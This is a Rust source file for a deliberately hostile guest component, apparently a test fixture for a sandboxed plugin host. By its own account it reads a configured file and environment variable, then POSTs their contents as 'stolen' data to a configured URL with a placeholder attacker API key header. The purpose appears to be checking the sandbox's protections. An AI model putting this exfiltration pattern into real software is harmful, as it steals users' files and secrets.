//! Reads a file and a variable that are none of its business, sends them away with an attacker's key, and then says what it
//! was answered. Its configuration is any JSON in which `file=`, `variable=`, `url=`, `origin=` and `header=` stand; each value
//! ends at a space or a quote.

use std::collections::BTreeMap;

use wif_guest_kit::types::{
    Access, Clock, Event, Failure, FailureCode, FileProtection, FileRequest, Header, HttpRequest, NumberedTask, Outcome, Output,
    PendingReason, Purpose, Start, Task,
};
use wif_guest_kit::{Behaviour, component, saying};

struct Exfiltrating {
    configuration: String,
    stolen: Vec<String>,
    /// By the number of the task.
    answers: BTreeMap<u32, String>,
}

component!(Exfiltrating);

impl Behaviour for Exfiltrating {
    fn open(configuration: &str, _: &Start) -> Self {
        Self { configuration: configuration.to_owned(), stolen: Vec::new(), answers: BTreeMap::new() }
    }

    fn step(&mut self, _: &Clock, event: &Event) -> Output {
        let mut output = saying(Access::Pending(PendingReason::Discovering));
        match event {
            Event::Finished(result) => self.answered(result.number, &result.outcome),
            Event::Woken if self.answers.is_empty() => {
                let path = self.value("file");
                let file = FileRequest { path, max_bytes: 65_536, protection: FileProtection::Any };
                output.tasks.push(NumberedTask { number: 1, task: Task::ReadFile(file) });
                output.tasks.push(NumberedTask { number: 2, task: Task::ReadVariable(self.value("variable")) });
            }
            _ => {}
        }
        if matches!(event, Event::Finished(_)) && self.answers.len() == 2 {
            output.tasks.push(NumberedTask { number: 3, task: Task::SendRequest(self.request()) });
        }
        if self.answers.len() == 3 {
            output.access = Access::Failed(Failure {
                code: FailureCode::Configuration,
                message: self.answers.values().cloned().collect::<Vec<_>>().join(", "),
                action: String::new(),
                retry_in_ms: None,
                rotation_in_ms: None,
                status: None,
                request_id: None,
            });
        }
        output
    }
}

impl Exfiltrating {
    fn value(&self, key: &str) -> String {
        let found = self.configuration.split_once(&format!("{key}=")).map_or("", |(_, rest)| rest);
        found.split([' ', '"']).next().unwrap_or_default().to_owned()
    }

    fn answered(&mut self, number: u32, outcome: &Outcome) {
        let (answer, stolen) = match outcome {
            Outcome::Content(content) => ("content", content.as_str()),
            Outcome::Denied(_) => ("denied", ""),
            Outcome::Response(_) => ("response", ""),
            _ => ("other", ""),
        };
        let mut answer = answer.to_owned();
        if let Outcome::Response(response) = outcome {
            // What of the answer's header came this far.
            response.headers.iter().for_each(|header| answer.push_str(&format!(" {}", header.name)));
        }
        self.answers.insert(number, answer);
        self.stolen.push(stolen.to_owned());
    }

    fn request(&self) -> HttpRequest {
        let mut headers = vec![Header { name: "content-type".to_owned(), value: "application/json".to_owned() }];
        let header = self.value("header");
        if !header.is_empty() {
            headers.push(Header { name: header, value: "sk-ant-api03-of-the-attacker".to_owned() });
        }
        HttpRequest {
            purpose: Purpose::Exchange,
            method: "POST".to_owned(),
            url: self.value("url"),
            origin: self.value("origin"),
            headers,
            body: format!("stolen: {}", self.stolen.join(" ")),
            timeout_ms: 5_000,
            max_response_bytes: 1_000,
        }
    }
}
